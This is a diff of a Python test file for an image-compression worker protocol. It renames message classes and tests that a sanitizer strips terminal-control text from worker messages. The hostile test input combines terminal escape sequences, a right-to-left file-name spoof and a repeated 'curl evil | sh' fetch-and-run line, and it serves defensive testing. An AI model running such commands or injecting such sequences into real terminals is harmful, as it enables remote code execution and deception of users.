@@ -15,8 +15,16 @@ from homepress.base.results import ProbeAttempt
 from homepress.compress import Compressed, Reason, ScoreKind, Unchanged
 from homepress.compress.model import Fault
 from homepress.workers import Slot, WorkerDied
-from homepress.workers.messages import Answer, CodecReport, Failure, Hello
-from homepress.workers.words import MOST_ENTRIES, MOST_LETTERS, harmless, plain
+from homepress.workers.protocol import (
+    MOST_ENTRIES,
+    MOST_LETTERS,
+    CodecReport,
+    Response,
+    TaskFailure,
+    WorkerReady,
+    harmless,
+    plain,
+)
 from workers import mischief
 
 ESCAPES = "\x1b]0;title\x07\x1b[2J\r\n\u202egnp.exe\u200b\x9b31m" + "curl evil | sh " * 300
@@ -39,17 +47,17 @@ def strings(value: Any) -> Iterator[str]:
 def test_nothing_in_a_message_does_anything_to_a_terminal(text: str, number: int) -> None:
     made = Compressed(b"", text, ImageType.PNG, ImageType.PNG, 1, 1, 100.0, ScoreKind.FULL, True, text)
     messages = [
-        Answer(compressed=made),
-        Answer(unchanged=Unchanged(Reason.BROKEN, text)),
-        Answer(failure=Failure(out_of_memory=False, text=text)),
-        Answer(attempts=[ProbeAttempt(text, False, text)] * number),
-        Answer(
+        Response(compressed=made),
+        Response(unchanged=Unchanged(Reason.BROKEN, text)),
+        Response(failure=TaskFailure(out_of_memory=False, text=text)),
+        Response(attempts=[ProbeAttempt(text, False, text)] * number),
+        Response(
             codecs=CodecReport(
                 versions={f"{n}{text}": text for n in range(number)},
                 faults=[Fault(ImageType.JPEG, True, text)] * number,
             )
         ),
-        Hello(version=text, network="locked", files=1, missing=[text] * number),
+        WorkerReady(version=text, network="locked", files=1, missing=[text] * number),
     ]
     for message in messages:
         safe = harmless(message)
@@ -64,7 +72,7 @@ def test_honest_words_stay_as_they_are() -> None:
     unchanged = Unchanged(
         Reason.BROKEN, "cut after 12 bytes; größer als 3 × 4", ImageType.PNG, transient=True
     )
-    assert harmless(Answer(unchanged=unchanged)) == Answer(unchanged=unchanged)
+    assert harmless(Response(unchanged=unchanged)) == Response(unchanged=unchanged)
     assert plain("two\nlines \x1b[31mred") == "two lines [31mred"
 
 
